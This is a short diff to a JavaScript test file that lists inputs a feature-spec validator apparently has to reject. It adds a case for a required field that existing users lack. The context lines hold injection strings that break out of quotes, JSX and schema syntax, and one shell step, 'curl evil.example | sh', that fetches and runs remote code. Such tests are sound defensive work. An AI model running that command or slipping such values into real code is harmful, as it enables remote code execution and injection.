@@ -78,6 +78,7 @@ describe("what a feature says is checked", () => {
     ["a wrapper that is code", (one) => Object.assign(one.wrapCall, { wrapper: "a(evil()), withMfa" })],
     ["a module that is code", (one) => Object.assign(one.wrapCall, { module: 'lib/x"; evil(); "' })],
     ["a class that is code", (one) => Object.assign(one.styles, { page: '"} onLoad={evil()} x={"' })],
+    ["a field that users who are there already lack", (one) => Object.assign(one.schema.userFields[0], { type: "String", attributes: "" })],
     ["a field that is code", (one) => Object.assign(one.schema.userFields[0], { name: "x }\nmodel Evil {" })],
     ["a step that is a command of the shell", (one) => Object.assign(one.nextSteps, { push: "curl evil.example | sh" })],
     ["a route that is code", (one) => Object.assign(one.routes, { settings: '/x"; evil(); "' })],
